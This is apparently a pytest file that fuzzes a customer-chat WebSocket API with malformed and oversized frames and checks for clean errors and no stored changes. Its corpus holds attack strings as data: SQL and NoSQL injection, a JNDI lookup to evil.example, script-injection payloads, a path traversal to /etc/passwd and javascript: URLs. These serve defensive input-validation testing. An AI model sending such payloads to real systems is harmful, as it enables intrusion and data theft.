"""Every client frame type of the WebSocket API (taken from ws.ROUTES, so a new
type is covered the day it is added), fed hostile frames by a customer, an
operator and an admin: each gets one well-formed `error` frame (or the normal
answer where the frame is in fact valid), never an exception or an
`internal_error`, and nothing is stored. Valid text that looks like HTML, script
or an injection is stored as plain text, exactly as sent (escaping is the UI's job).

One world of two services is built per module (building it per test would cost
more than the frames themselves); every corpus frame must be refused, so no test
changes what the next one sees."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest

from chalicelib import aws, clock, config, realtime
from chalicelib.api import ws
from chalicelib.models import (
    Chat,
    ChatHead,
    Connection,
    Customer,
    Message,
    Operator,
    Ticket,
)
from tests.api.helpers import Api
from tests.api.ws_gateway import Desk, Socket, connect, posted
from tests.conftest import make_tenant

FRAME_LIMIT = ws.MAX_FRAME_BYTES
ERROR_KEYS = {"type", "code", "message", "re", "reason"}  # reason: bad_attachment
SNAKE = re.compile(r"^[a-z][a-z0-9_]*$")

# The answer to each valid frame (None: no answer). A type missing here fails
# test_every_frame_type_has_a_hostile_corpus until someone writes its corpus.
REPLY = {
    "chat.start": "chat.started",
    "chat.resume": "chat.history",
    "message.send": "message.ack",
    "typing": None,
    "rating.submit": "rating.saved",
    "chat.leave": "chat.left",
    "transcript.request": "transcript.queued",
    "attachment.request": "attachment.upload",
    "attachment.link": "attachment.link",
    "page.view": None,
    "ping": "pong",
}
WHO = {"customer": ("customer",), "operator": ("operator",), "admin": ("admin",)}
ROLES = ("customer", "operator", "admin")

# --- the corpus -------------------------------------------------------------------

INJECTIONS = [
    "' OR '1'='1",
    "1; DROP TABLE chats; --",
    '{"$ne": null}',
    "{'$gt': ''}",
    "attribute_exists(chat_id) OR chat_id = :v",
    "#chat_id",
    ":chat_id",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "__proto__",
    "../../etc/passwd",
    "ch_x#cmid#1",
    "%00",
    "*",
]
HTML = [
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "<a href=\"javascript:alert('x')\">click</a>",
    "</textarea><svg/onload=alert(1)>",
    "&lt;b&gt;not bold&lt;/b&gt; &amp;",
    "<!-- -->]]><![CDATA[",
]
UNICODE_OK = [
    "\u202eevil.exe\u202c txt",  # right-to-left override
    "zero\u200bwidth\u200d\ufeffjoin",
    "emoji 😀 👩‍👩‍👧 🇯🇵",
    "e\u0301\u0301\u0301\u0301 Z\u0335\u0321\u0322a\u0336lgo",  # combining marks
    "\uffff\ufffe\U0010ffff noncharacters",
    "日本語 한국어 العربية",
    "line\nbreak\ttab",
]
LONE_SURROGATES = ["\ud800", "a\udfffb", "\ud83d", "\ude00 tail"]
WRONG_TYPES: list[Any] = [None, True, False, 0, -1, 1.5, 1e308, [], {}, ["x"], {"$ne": None}]

RAW_FRAMES = [
    "",
    " ",
    "not json",
    "\x00\x01\x02\x7f\x1b[31m",
    "\ufffd\ufffe\uffff",
    "\ufeff{}",
    "[]",
    "[1, 2]",
    "42",
    "-0",
    "1e309",
    '"ping"',
    "null",
    "true",
    "NaN",
    "{",
    "}",
    '{"type": "ping"',
    '{"type": "ping"}}',
    "{'type': 'ping'}",
    "[" * 5000,
    '{"a":' * 3000,
    "{}",
    '{"type": null}',
    '{"type": 7}',
    '{"type": ["ping"]}',
    '{"type": {"$ne": null}}',
    '{"type": "PING"}',
    '{"type": " ping"}',
    '{"type": "ping\\u0000"}',
    '{"type": "ping\\u200b"}',
    '{"type": "\\ud800"}',
    '{"type": "<script>alert(1)</script>"}',
    '{"type": "__proto__"}',
    '{"type": "ping", "type": "chat.explode"}',
    '{"type": "ping", "\\ud800": 1}',
    json.dumps({"type": "x" * (FRAME_LIMIT + 1)}),
    '{"type": "ping", "pad": "' + "é" * 40_000 + '"}',  # 40,000 characters, 80 KB
]


def _bad_values(kind: str, world: World, role: str) -> list[Any]:
    """Values each kind of field must refuse."""
    huge = "x" * 60_000
    if kind == "chat_id":
        ids = [*WRONG_TYPES, "", "x" * 101, huge, "ch_does_not_exist", *INJECTIONS,
               world.chat_a + "\u200b", world.chat_a.upper(), " " + world.chat_a,
               world.chat_a + "\x00", world.chat_a + "\ud800",
               world.foreign_chat, world.foreign_customer, world.customer_a]
        if role == "customer":
            ids.append(world.chat_b)  # another customer's chat of the same service
        return ids
    return {
        "after_seq": [*(v for v in WRONG_TYPES if v != 0 or type(v) is bool), -1, 10**9 + 1,
                      10**30, "3", "0", float("nan")],
        "client_msg_id": [*WRONG_TYPES, "", "x" * 101, huge, "c\ud800"],
        "text": [*WRONG_TYPES, "", "   \n\t ", "x" * 5001, huge, *LONE_SURROGATES],
        "score": [*WRONG_TYPES, 6, 5.0, "5", 10**30, float("inf")],
        "comment": [True, 1, [], {}, "x" * 1001, huge, "bad\x00nul", *LONE_SURROGATES],
        "consent": [None, False, "true", 1, [], {}, {"$ne": None}],
        "name": [True, 1, [], {}, "x" * 101, huge, "two\nlines", "nul\x00", "\ud800"],
        "email": [True, 1, ["a@b.co"], "not-an-email", "a@b", "<script>@x.com", "a b@c.de",
                  "x" * 300 + "@example.com", "\ud800@example.com"],
        "page_url": [True, 1, ["http://x.co"], "javascript:alert(1)", "http://[", "ftp://x.co",
                     "http://a b.co", "https://a.co:99999", "data:text/html,<script>", huge],
        "channel": [True, 1, [], {}, "x" * 51, huge, "a\nb", "nul\x00"],
        # Files (R-ATT-1): types never taken (SVG, HTML, executables), sizes out
        # of range or of the wrong kind, ids of nothing.
        "filename": [*WRONG_TYPES, "", "   ", "x" * 1001, huge],
        "content_type": [*WRONG_TYPES, "", "image/svg+xml", "text/html", "application/x-msdownload",
                         "image/png; charset=utf-8", "IMAGE/SVG+XML", "x" * 101, huge],
        "size": [*(v for v in WRONG_TYPES if v != 0 or type(v) is bool), 0, -1, "10",
                 10 * 1024 * 1024 + 1, 10**30, float("nan")],
        "attachment_id": [True, False, 0, 1.5, [], {}, {"$ne": None}, "", "x" * 101, huge,
                          "at_does_not_exist", *INJECTIONS],
        # Visitor context (R-VIS-1): only http(s) pages, never script or data URLs.
        "url": [*WRONG_TYPES, "", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
                "data:text/html,<script>alert(1)</script>", "ftp://x.example/", "//x.example/",
                "https://x.example/" + "a" * 2000, "http://[", "https://a b.example/",
                "https://x.example:99999/", "https://x.example/\nSet-Cookie: a=b", huge],
        "title": [True, 1, [], {}, "t" * 1001, huge],
        "referrer": [True, 1, [], {}, "javascript:alert(1)", "ftp://x.example/",
                     "https://x.example/" + "a" * 2000, huge],
        "language": [True, 1, [], {}, "fr", "JA", "ja\x00", "x" * 51, huge, "\ud800"],
    }[kind]


FIELDS: dict[str, tuple[str, ...]] = {
    "chat.start": ("consent", "name", "email", "page_url", "channel", "language"),
    "chat.resume": ("chat_id", "after_seq"),
    "message.send": ("chat_id", "client_msg_id", "text", "attachment_id"),
    "typing": ("chat_id",),
    "rating.submit": ("chat_id", "score", "comment"),
    "chat.leave": ("chat_id",),
    "transcript.request": ("chat_id", "email"),
    "attachment.request": ("chat_id", "filename", "content_type", "size"),
    "attachment.link": ("chat_id", "attachment_id"),
    "page.view": ("chat_id", "url", "title", "referrer"),
    "ping": (),
}


def _valid_frame(kind: str, world: World) -> dict[str, Any]:
    return {
        "chat.start": {"type": "chat.start", "consent": True},
        "chat.resume": {"type": "chat.resume", "chat_id": world.chat_a, "after_seq": 0},
        "message.send": {"type": "message.send", "chat_id": world.chat_a,
                         "client_msg_id": "hostile-valid", "text": "hello"},
        "typing": {"type": "typing", "chat_id": world.chat_a},
        "rating.submit": {"type": "rating.submit", "chat_id": world.chat_a, "score": 4},
        "chat.leave": {"type": "chat.leave", "chat_id": world.chat_a},
        "transcript.request": {"type": "transcript.request", "chat_id": world.chat_a,
                               "email": "kim@example.test"},
        "attachment.request": {"type": "attachment.request", "chat_id": world.chat_a,
                               "filename": "shot.png", "content_type": "image/png", "size": 10},
        # No file was sent in the world's chats: a valid-looking link is refused too.
        "attachment.link": {"type": "attachment.link", "chat_id": world.chat_a,
                            "attachment_id": "at_none"},
        # Without its optional fields: each bad value is tried beside the valid ones.
        "page.view": {"type": "page.view", "chat_id": world.chat_a,
                      "url": "https://shop.example.com/products/1"},
        "ping": {"type": "ping"},
    }[kind]


def _padded(frame: dict[str, Any], field: str, over: bool) -> str:
    """The frame with `field` filled so the frame is just under (or just over) the limit."""
    bare = json.dumps({**frame, field: ""})
    room = FRAME_LIMIT - len(bare.encode())
    return json.dumps({**frame, field: "x" * (room + 1 if over else room - 16)})


# --- the world ----------------------------------------------------------------------


@dataclass
class World:
    client: Any
    desk: Desk
    operator_api: Api
    console: Socket
    customer_home: Socket
    visitor_a: str
    customer_a: str
    chat_a: str
    chat_b: str
    ended_chat: str
    ended_customer_token: str
    left_chat: str
    left_customer_token: str
    foreign_chat: str
    foreign_customer: str

    def socket(self, role: str) -> Socket:
        """A fresh connection for the role (fresh, so its frame allowance is full)."""
        if role == "customer":
            return self.desk.customer(visitor_token=self.visitor_a)
        api = self.operator_api if role == "operator" else self.desk.admin
        status, socket = connect(self.client, api.post("/auth/ws-ticket")[1]["ticket"],
                                 origin=None)
        assert status == 200
        return socket


def _started(socket: Socket) -> str:
    reply = socket.request({"type": "chat.start", "consent": True, "name": "Kim"})
    assert reply["type"] == "chat.started", reply
    return reply["chat"]["chat_id"]


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    from chalice.test import Client
    from moto import mock_aws

    from app import app
    from chalicelib import aws as aws_clients
    from chalicelib import models
    from infra import tables

    with pytest.MonkeyPatch.context() as patch, mock_aws():
        patch.delenv("DYNAMODB_ENDPOINT", raising=False)
        patch.setenv("WS_MANAGEMENT_ENDPOINT",
                     "https://wsapi1.execute-api.us-east-1.amazonaws.com/ws")
        aws_clients.reset()
        models.reset_connections()
        tables.create_tables(aws_clients.client("dynamodb"))
        aws_clients.client("s3").create_bucket(Bucket=config.files_bucket())
        with Client(app) as client:
            desk = Desk(client, make_tenant("acme"))
            operator_api, console = desk.operator(max_chats=10)
            home = desk.customer()
            chat_a = _started(home)
            assert operator_api.post(f"/chats/{chat_a}/open")[0] == 200
            chat_b = _started(desk.customer())
            ended = desk.customer()
            ended_chat = _started(ended)
            assert operator_api.post(f"/chats/{ended_chat}/end")[0] == 200
            left = desk.customer()
            left_chat = _started(left)
            assert left.request({"type": "chat.leave", "chat_id": left_chat})["type"] == \
                "chat.left"
            foreign = Desk(client, make_tenant("globex")).customer()
            foreign_chat = _started(foreign)
            yield World(client, desk, operator_api, console, home, home.visitor_token,
                        home.customer_id, chat_a, chat_b, ended_chat, ended.visitor_token,
                        left_chat, left.visitor_token, foreign_chat, foreign.customer_id)
    aws_clients.reset()
    models.reset_connections()


def _last_seq(chat_id: str) -> int:
    return int(ChatHead.get(chat_id, consistent_read=True).last_seq)


def _stored(world: World) -> Any:
    """What both services have stored, read by Query and GetItem (never Scan)."""
    state = []
    for service_id in ("acme", "globex"):
        chat_ids = sorted(c.chat_id for c in Chat.by_service.query(service_id))
        for chat_id in chat_ids:
            chat = Chat.get(chat_id, consistent_read=True)
            state.append((chat_id, chat.status, int(chat.last_seq), chat.rating,
                          chat.customer, chat.customer_left_at, chat.ended_at,
                          chat.operator_id, chat.channel, chat.page_url, chat.category_id))
            head = ChatHead.get(chat_id, consistent_read=True)
            state.append((int(head.last_seq), head.ended, head.customer_left, head.operator_id,
                          head.customer_name, head.replied, sorted(realtime.conns(head))))
            state.append([(int(m.seq), m.sender_role, m.text, m.client_msg_id)
                          for m in Message.query(chat_id, consistent_read=True)])
        state.append(sorted((c.customer_id, c.name, c.email, c.open_chat_id, c.verified)
                            for c in Customer.query(service_id, consistent_read=True)))
        state.append(sorted((o.operator_id, int(o.open_chats or 0))
                            for o in Operator.query(service_id, consistent_read=True)))
        state.append(sum(1 for _ in Ticket.by_service.query(service_id)))
    # Files asked for, pages kept: how many (no index to query, Scan is refused).
    for table in ("attachments", "visits"):
        state.append(aws.client("dynamodb").describe_table(
            TableName=config.table_name(table))["Table"]["ItemCount"])
    return state


# --- sending ------------------------------------------------------------------------


def _exchange(socket: Socket, raw: str) -> list[dict[str, Any]]:
    """Send one raw frame as a patient client would (its frame allowance full, so
    the rate limit is not what answers) and return what came back to it."""
    Connection(connection_id=socket.connection_id).update(
        actions=[Connection.rate_tat.remove()])
    before = len(posted(socket.connection_id))
    socket.send_raw(raw)
    return posted(socket.connection_id)[before:]


def _frame_id(raw: str) -> Any:
    """The `id` the error must carry back as `re` (a string id a reply can hold)."""
    try:
        frame = json.loads(raw)
    except (ValueError, RecursionError):
        return None
    value = frame.get("id") if isinstance(frame, dict) else None
    if not isinstance(value, str) or len(raw.encode("utf-8", "surrogatepass")) > FRAME_LIMIT:
        return None
    try:
        value.encode("utf-8")
    except UnicodeEncodeError:
        return None
    return value[:100]


def assert_error_frame(replies: list[dict[str, Any]], raw: str) -> dict[str, Any]:
    assert len(replies) == 1, (raw[:120], replies)
    [reply] = replies
    assert reply.get("type") == "error", (raw[:120], reply)
    assert set(reply) <= ERROR_KEYS, reply
    assert SNAKE.match(reply["code"]) and reply["code"] != "internal_error", (raw[:120], reply)
    assert isinstance(reply["message"], str) and reply["message"], reply
    frame_id = _frame_id(raw)
    if frame_id is not None:
        assert reply.get("re") == frame_id, (raw[:120], reply)
    return reply


def _corpus(kind: str, world: World, role: str) -> list[str]:
    """Frames of this type that must all be refused (one bad field each)."""
    valid = _valid_frame(kind, world)
    frames = []
    for n, field in enumerate(FIELDS[kind]):
        for m, value in enumerate(_bad_values(field, world, role)):
            frames.append(json.dumps({**valid, field: value, "id": f"r{n}.{m}"}))
        if field in valid:
            missing = {k: v for k, v in valid.items() if k != field}
            frames.append(json.dumps({**missing, "id": f"missing-{field}"}))
        if field != "consent":
            frames.append(_padded(valid, field, over=False))
    if FIELDS[kind]:
        frames.append(_padded(valid, FIELDS[kind][-1], over=True))
    return frames


# --- the tests ------------------------------------------------------------------------


def test_every_frame_type_has_a_hostile_corpus() -> None:
    assert set(ws.ROUTES) == set(REPLY) == set(FIELDS)


@pytest.mark.parametrize("role", ROLES)
def test_raw_garbage_gets_one_clean_error_and_the_socket_stays_open(world, role):
    socket = world.socket(role)
    before = _stored(world)
    world.console.new_frames()
    world.customer_home.new_frames()
    codes = set()
    for raw in RAW_FRAMES:
        codes.add(assert_error_frame(_exchange(socket, raw), raw)["code"])
    assert codes == {"bad_request", "too_large"}
    assert _stored(world) == before
    assert world.console.new_frames() == [] and world.customer_home.new_frames() == []
    assert socket.request({"type": "ping"})["type"] == "pong"


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("kind", sorted(ws.ROUTES))
def test_every_bad_field_of_every_frame_type_is_refused_and_nothing_stored(world, kind, role):
    socket = world.socket(role)
    before = _stored(world)
    world.console.new_frames()
    world.customer_home.new_frames()
    corpus = _corpus(kind, world, role)
    for raw in corpus:
        assert_error_frame(_exchange(socket, raw), raw)
    # Over the frame limit, every type: refused before any handler runs.
    over = _padded(_valid_frame(kind, world), "pad", over=True)
    assert assert_error_frame(_exchange(socket, over), over)["code"] == "too_large"
    assert _stored(world) == before
    assert world.console.new_frames() == [] and world.customer_home.new_frames() == []
    assert socket.request({"type": "ping"})["type"] == "pong"


@pytest.mark.parametrize("kind", sorted(ws.ROUTES))
def test_junk_beside_a_valid_frame_is_ignored_or_refused_never_a_crash(world, kind):
    """Unknown fields, odd ids and padding just under the limit: a frame that is
    otherwise valid is either answered normally or refused cleanly."""
    socket = world.socket("operator")  # operators change nothing with these frames
    frame = {**_valid_frame(kind, world), "chat_id": "ch_does_not_exist"} \
        if "chat_id" in _valid_frame(kind, world) else _valid_frame(kind, world)
    before = _stored(world)
    for extra in ({"extra": {"$where": "sleep(1000)"}}, {"__proto__": {"admin": True}},
                  {"id": ["not", "an", "id"]}, {"id": 1.5}, {"id": "i" * 500},
                  {"role": "admin", "service_id": "globex", "customer_id": world.customer_a}):
        raw = json.dumps({**frame, **extra})
        replies = _exchange(socket, raw)
        assert len(replies) <= 1, replies
        for reply in replies:
            if reply["type"] == "error":
                assert_error_frame(replies, raw)
            else:
                assert reply["type"] == REPLY[kind], reply
            if isinstance(extra.get("id"), str):
                assert reply["re"] == extra["id"][:100]
            elif "id" in extra:
                assert "re" not in reply
    assert _stored(world) == before


def test_an_operator_or_admin_frame_for_a_customer_only_type_is_forbidden(world):
    for role in ("operator", "admin"):
        socket = world.socket(role)
        for frame in ({"type": "chat.start", "consent": True},
                      {"type": "rating.submit", "chat_id": world.chat_a, "score": 5},
                      {"type": "chat.leave", "chat_id": world.chat_a}):
            raw = json.dumps({**frame, "id": "x"})
            assert assert_error_frame(_exchange(socket, raw), raw)["code"] == "forbidden"


@pytest.mark.parametrize("role", ROLES)
def test_frames_out_of_state_are_refused_and_nothing_stored(world, role):
    """Sending or typing into an ended chat, or into one the customer left."""
    if role == "customer":
        targets = [(world.desk.customer(visitor_token=world.ended_customer_token),
                    world.ended_chat, {"chat_ended"}),
                   (world.desk.customer(visitor_token=world.left_customer_token),
                    world.left_chat, {"customer_left"})]
    else:
        targets = [(world.socket(role), world.ended_chat, {"chat_ended"})]
    before = _stored(world)
    for socket, chat_id, codes in targets:
        for frame in ({"type": "message.send", "chat_id": chat_id, "client_msg_id": "late",
                       "text": "anyone there?"},
                      {"type": "typing", "chat_id": chat_id}):
            raw = json.dumps({**frame, "id": "late"})
            assert assert_error_frame(_exchange(socket, raw), raw)["code"] in codes
    assert _stored(world) == before


def test_html_script_injection_and_unicode_text_is_stored_verbatim(world):
    customer = world.socket("customer")
    world.console.new_frames()
    first = _last_seq(world.chat_a) + 1
    sent = []
    for n, text in enumerate([*HTML, *INJECTIONS, *UNICODE_OK]):
        for socket, side in ((customer, "customer"), (world.console, "operator")):
            raw = json.dumps({"type": "message.send", "chat_id": world.chat_a,
                              "client_msg_id": f"{side}-{n}", "text": text, "id": "v"},
                             ensure_ascii=n % 2 == 0)
            replies = _exchange(socket, raw)
            assert [r["type"] for r in replies] == ["message.ack"], (text, replies)
            sent.append((first + len(sent), side, text))
            assert replies[0]["seq"] == sent[-1][0]
    stored = [(int(m.seq), m.sender_role, m.text)
              for m in Message.query(world.chat_a, Message.seq >= first, consistent_read=True)]
    assert stored == sent
    seq = sent[-1][0]
    heard = [f["message"]["text"] for f in world.console.new_frames("message")]
    assert heard == [*HTML, *INJECTIONS, *UNICODE_OK]
    resumed = customer.request({"type": "chat.resume", "chat_id": world.chat_a,
                                "after_seq": seq - 2})
    assert [m["text"] for m in resumed["messages"]] == [UNICODE_OK[-1]] * 2


def test_text_at_the_limit_counts_characters_not_bytes(world):
    customer = world.socket("customer")
    for text, ok in (("😀" * 5000, True), ("é" * 5000, True), ("😀" * 5001, False)):
        raw = json.dumps({"type": "message.send", "chat_id": world.chat_a,
                          "client_msg_id": f"limit-{len(text)}-{text[0]}", "text": text,
                          "id": "big"}, ensure_ascii=False)
        before = _last_seq(world.chat_a)
        replies = _exchange(customer, raw)
        if ok:
            assert replies[0]["type"] == "message.ack", replies
            assert Message.get(world.chat_a, replies[0]["seq"]).text == text
        else:
            assert assert_error_frame(replies, raw)["code"] == "too_large"
            assert _last_seq(world.chat_a) == before


def test_a_text_with_nul_or_control_characters_is_stored_exactly_or_refused(world):
    customer = world.socket("customer")
    for n, text in enumerate(["nul\x00inside", "bell\x07 esc\x1b[2J", "\x7f\x85\u2028\u2029"]):
        before = _last_seq(world.chat_a)
        raw = json.dumps({"type": "message.send", "chat_id": world.chat_a,
                          "client_msg_id": f"ctl-{n}", "text": text, "id": "ctl"})
        replies = _exchange(customer, raw)
        if replies[0]["type"] == "message.ack":
            assert Message.get(world.chat_a, replies[0]["seq"]).text == text
        else:
            assert_error_frame(replies, raw)
            assert _last_seq(world.chat_a) == before
            assert not list(Message.query(world.chat_a, Message.seq > before))


def test_a_replayed_message_frame_is_stored_once_whatever_it_now_says(world):
    customer = world.socket("customer")
    first = customer.request({"type": "message.send", "chat_id": world.chat_a,
                              "client_msg_id": "replayed", "text": "original"})
    again = customer.request({"type": "message.send", "chat_id": world.chat_a,
                              "client_msg_id": "replayed", "text": "<script>changed</script>"})
    assert first["seq"] == again["seq"]
    assert Message.get(world.chat_a, first["seq"]).text == "original"
    assert _last_seq(world.chat_a) == first["seq"]


def test_bytes_and_invalid_utf8_frames_are_refused_cleanly(world):
    """API Gateway may hand a binary frame over as bytes."""
    socket = world.socket("customer")
    now = clock.now()
    seen = []
    for raw in (b"\xff\xfe\x00", b"\xc3\x28", b'{"type": "\xed\xa0\x80"}', b"[" * 5000,
                b"\x00" * (FRAME_LIMIT + 1)):
        Connection(connection_id=socket.connection_id).update(
            actions=[Connection.rate_tat.remove()])
        reply = ws.handle_frame(socket.connection_id, raw, now=now, push=lambda *_: True)
        assert reply is not None and reply["type"] == "error", (raw[:20], reply)
        seen.append(reply["code"])
    assert seen == ["bad_request"] * 4 + ["too_large"]
    utf8 = json.dumps({"type": "ping", "id": "b"}).encode()
    assert ws.handle_frame(socket.connection_id, b"\xef\xbb\xbf" + utf8, now=now,
                           push=lambda *_: True) == {"type": "pong", "re": "b"}


# --- the per-connection frame rate limit ----------------------------------------------


def test_a_flood_of_bad_frames_is_rate_limited_per_connection(world):
    """Garbage spends the allowance too (API.md: 60 frames at once, then one a
    second); being limited says when to retry, and another connection of the same
    customer keeps its own allowance. Times are given, so the test is exact."""
    flooder, other = world.socket("customer"), world.socket("customer")
    # Whole seconds: the stored allowance is rounded to milliseconds.
    now = clock.now().replace(microsecond=0)

    def frame(socket: Socket, raw: str, at: float) -> dict[str, Any]:
        reply = ws.handle_frame(socket.connection_id, raw, now=now + timedelta(seconds=at),
                                push=lambda *_: True)
        assert reply is not None
        return reply

    codes = [frame(flooder, "not json", 0)["code"] for _ in range(realtime.FRAME_BURST)]
    assert codes == ["bad_request"] * realtime.FRAME_BURST
    limited = [frame(flooder, '{"type": "ping", "id": 1}', 0.5) for _ in range(10)]
    assert {(f["type"], f["code"], f["re"]) for f in limited} == {("error", "rate_limited", 1)}
    assert "retry in 1 s" in limited[0]["message"]
    assert frame(other, '{"type": "ping"}', 0.5) == {"type": "pong"}
    assert frame(flooder, '{"type": "ping"}', 1.0) == {"type": "pong"}
    assert frame(flooder, '{"type": "ping"}', 1.0)["code"] == "rate_limited"
